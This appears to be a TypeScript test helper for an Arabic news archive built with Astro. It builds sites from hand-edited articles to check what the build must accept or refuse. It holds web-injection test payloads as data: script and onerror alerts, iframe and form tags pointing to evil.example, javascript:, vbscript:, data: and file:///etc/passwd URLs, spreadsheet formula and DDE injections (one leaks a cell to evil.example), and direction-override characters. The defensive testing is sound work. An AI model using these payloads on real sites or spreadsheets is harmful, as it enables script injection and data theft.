/**
 * Sites built by the real `astro build` and index step from hand-edited articles, the way an editor can
 * leave them after an ingest: one the build accepts (control characters, spreadsheet formulas, bare
 * addresses, an upper-case URL) and one it must refuse (markup in bodies, URLs of other schemes, a
 * four-megabyte line). Each is built once per test run, whichever test file asks first.
 */
import { spawn, spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { copyFileSync, existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { buildEnv } from './fixture-site.ts';

/** One article as an editor left it: frontmatter values as YAML (escapes and all), and the body. */
export interface HandArticle {
  slug: string;
  title: string;
  publisher?: string;
  author?: string;
  url?: string;
  /** The sidecar's url line, when the sidecar has one. */
  metaUrl?: string;
  places?: string[];
  body: string;
}

/** A YAML double-quoted scalar of `text`, for values written without escapes. */
export const quoted = (text: string) => JSON.stringify(text);

/** The article file: the frontmatter the ingest writes, with the given values as written. */
function articleFile(a: HandArticle, sha256: string): string {
  const places = (a.places ?? []).map((id) => `\n  - id: "${id}"\n    count: 1`).join('');
  return [
    '---',
    `title: ${a.title}`,
    'titleFrom: "text"',
    `slug: "${a.slug}"`,
    `publisher: ${a.publisher ?? 'null'}`,
    'via: null',
    `author: ${a.author ?? 'null'}`,
    `url: ${a.url ?? 'null'}`,
    'published:',
    '  date: "2016-12-05"',
    '  approximate: false',
    '  basis: "تاريخ الصفحة"',
    'source:',
    `  file: "sources/${a.slug}.txt"`,
    `  sha256: "${sha256}"`,
    `places:${places || ' []'}`,
    '---',
    '',
    a.body,
  ].join('\n');
}

/** A content folder with the gazetteer, no events, and each article with its raw text and sidecar. */
function writeContent(content: string, articles: readonly HandArticle[]): void {
  mkdirSync(join(content, 'articles'), { recursive: true });
  mkdirSync(join(content, 'sources'), { recursive: true });
  copyFileSync('content/places.yaml', join(content, 'places.yaml'));
  writeFileSync(join(content, 'events.yaml'), 'events: []\n');
  for (const a of articles) {
    const raw = `نص خام للمقال ${a.slug}\n`;
    writeFileSync(join(content, 'sources', `${a.slug}.txt`), raw);
    const meta = [`slug: ${a.slug}`, 'publisher: null', ...(a.metaUrl ? [`url: ${a.metaUrl}`] : []), 'published:', '  date: "2016-12-05"', '  approximate: false', '  basis: "تاريخ الصفحة"', ''];
    writeFileSync(join(content, 'sources', `${a.slug}.meta.yaml`), meta.join('\n'));
    writeFileSync(join(content, 'articles', `${a.slug}.mdx`), articleFile(a, createHash('sha256').update(raw).digest('hex')));
  }
}

/** This test run: the process running the test files, and when it started (on Linux), so no later run takes its sites. */
function testRun(): string {
  const stat = `/proc/${process.ppid}/stat`;
  const started = existsSync(stat) ? readFileSync(stat, 'utf8').split(') ')[1]!.split(' ')[19] : '';
  return `${process.ppid}-${started}`;
}

/** What a build printed and left. */
export interface Built {
  /** The content folder it was built from. */
  content: string;
  dist: string;
  status: number | null;
  /** stdout and stderr of both steps, in order. */
  output: string;
}

/**
 * Builds `articles` as a site with `astro build` and the index step, unless this test run has built it
 * already (the folder is named after the run's process and the site's name).
 */
export function buildHandSite(name: string, articles: readonly HandArticle[]): Built {
  const root = join(tmpdir(), `archive-safety-${testRun()}-${name}`);
  const content = join(root, 'content');
  const dist = join(root, 'dist');
  const report = join(root, 'built.json');
  if (existsSync(report)) return JSON.parse(readFileSync(report, 'utf8')) as Built;
  rmSync(root, { recursive: true, force: true });
  writeContent(content, articles);
  const options = { encoding: 'utf8', env: buildEnv({ ARCHIVE_CONTENT_DIR: content, ARCHIVE_CACHE_DIR: join(root, 'cache') }), maxBuffer: 64 * 1024 * 1024 } as const;
  const astro = spawnSync(process.execPath, [resolve('node_modules/astro/bin/astro.mjs'), 'build', '--outDir', dist], options);
  let output = `${astro.stdout}${astro.stderr}`;
  let status = astro.status;
  if (status === 0) {
    const index = spawnSync(process.execPath, [resolve('src/search-index/cli.ts'), '--dist', dist], options);
    output += `${index.stdout}${index.stderr}`;
    status = index.status;
  }
  const built: Built = { content, dist, status, output };
  writeFileSync(report, JSON.stringify(built));
  return built;
}

/**
 * `astro dev` on `articles`, as an editor previews a hand edit (the dev server runs no content check):
 * resolves with the server's address once it listens.
 */
export async function previewSite(name: string, articles: readonly HandArticle[]): Promise<{ url: string; close: () => void }> {
  const root = join(tmpdir(), `archive-safety-${testRun()}-${name}`);
  rmSync(root, { recursive: true, force: true });
  const content = join(root, 'content');
  writeContent(content, articles);
  const env = buildEnv({ ARCHIVE_CONTENT_DIR: content, ARCHIVE_CACHE_DIR: join(root, 'cache') });
  const server = spawn(process.execPath, [resolve('node_modules/astro/bin/astro.mjs'), 'dev', '--host', '127.0.0.1', '--port', '0'], { env, stdio: ['ignore', 'pipe', 'pipe'] });
  const url = await new Promise<string>((resolveUrl, reject) => {
    let printed = '';
    const read = (chunk: Buffer) => {
      printed += chunk.toString();
      const found = /(http:\/\/127\.0\.0\.1:\d+\/)/.exec(printed.replace(/\x1b\[[0-9;]*m/g, ''));
      if (found) resolveUrl(found[1]!);
    };
    server.stdout.on('data', read);
    server.stderr.on('data', read);
    server.once('exit', (code) => reject(new Error(`astro dev stopped (exit code ${code}) before it listened:\n${printed}`)));
  });
  return { url, close: () => server.kill() };
}

/** `npm run check` on a content folder: its exit status and the lines it printed. */
export function runCheck(content: string): { status: number | null; lines: string[] } {
  const run = spawnSync(process.execPath, ['src/check/cli.ts', '--content', content], { encoding: 'utf8', maxBuffer: 64 * 1024 * 1024 });
  return { status: run.status, lines: `${run.stdout}${run.stderr}`.split('\n').filter(Boolean) };
}

/** Every C0 and C1 control (but tab and line breaks), noncharacters and a direction override left open, as YAML escapes. */
export const CONTROLS_YAML = '\\0\\x01\\a\\b\\v\\f\\e\\x1f\\x7f\\N\\x9b\\uFDD0\\uFFFE\\uFFFF\\U0010FFFF';

/** The site the build accepts: what hand edits can bring that pages, feeds and data files must carry safely. */
export const ACCEPTED: HandArticle[] = [
  {
    slug: '2016-12-controls',
    // A title full of control characters ending with a right-to-left override left open, which would reverse
    // the date after it in the citation box; the publisher between them has controls but no line break.
    title: `"سقوط${CONTROLS_YAML} سرت Sirte 2016\\u202E"`,
    publisher: '"رويترز\\a\\x1b\\x9b\\uFFFF"',
    author: '"John Smith\\u202B"',
    places: ['sirte'],
    body: `سيطرت القوات على سرت\u0007 في 5 ديسمبر\u0085 بعد معارك \u000b دامت \ufffe أشهرًا &#x202e;عدة.\n\nوقال المتحدث \u001b إن المعارك انتهت.\n`,
  },
  {
    slug: '2016-12-formulas',
    title: quoted('=HYPERLINK("https://evil.example/?leak="&A1,"سرت")'),
    publisher: quoted('@رويترز'),
    author: quoted("+cmd|' /C calc'!A0"),
    url: quoted('HTTPS://WWW.Example.ORG/news/سرت'),
    body: '\\-2+3 هو ما كتبه الموقع في أول السطر.\n',
  },
  {
    slug: '2016-12-addresses',
    title: quoted('عناوين وروابط في نص المقال'),
    // As the ingest escapes them: a bare address, an e-mail address and a quoted frame are text.
    body: 'نشر الموقع www.alwasat.ly/news والعنوان https://evil.example/x وبريد editor@example.org، وكتب &lt;iframe src="https://evil.example/"&gt; في صفحته.\n',
  },
];

/** One line of four megabytes: Arabic sentences with no line break. */
export const FOUR_MB_LINE = Array.from({ length: 72_000 }, (_, i) => `سيطرت القوات على الحي ${i + 1} في سرت.`).join(' ');

/** Markup typed by hand into a body, one paragraph each. */
export const MARKUP = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(2)>',
  '<iframe src="https://evil.example/"></iframe>',
  '<style>body{display:none}</style>',
  '<form action="https://evil.example/"><button>أرسل</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="1;url=https://evil.example/">',
  '<Chart data={secrets} />',
  '{alert(document.cookie)}',
  '[انقر](javascript:alert(3))',
  '<https://evil.example/>',
  "import evil from 'attacker'",
];

/** URL values of other schemes, each in its own article. */
export const BAD_URLS = ['javascript:alert(1)', 'JaVaScRiPt:alert(document.cookie)', 'data:text/html,<script>alert(1)</script>', 'vbscript:msgbox(1)', 'file:///etc/passwd'];

/** The site the build must refuse. */
export const REFUSED: HandArticle[] = [
  { slug: '2016-12-markup', title: quoted('مقال حُرِّر يدويًا'), body: `${MARKUP.join('\n\n')}\n` },
  ...BAD_URLS.map((url, i) => ({ slug: `2016-12-url-${i + 1}`, title: quoted('رابط غير مقبول'), url: quoted(url), body: 'نص.\n' })),
  { slug: '2016-12-sidecar-url', title: quoted('رابط الملف الوصفي'), metaUrl: quoted('javascript:alert(1)'), body: 'نص.\n' },
  { slug: '2016-12-long-line', title: quoted('سطر من أربعة ميغابايت'), body: `مقدمة قصيرة.\n\n${FOUR_MB_LINE}\n` },
];
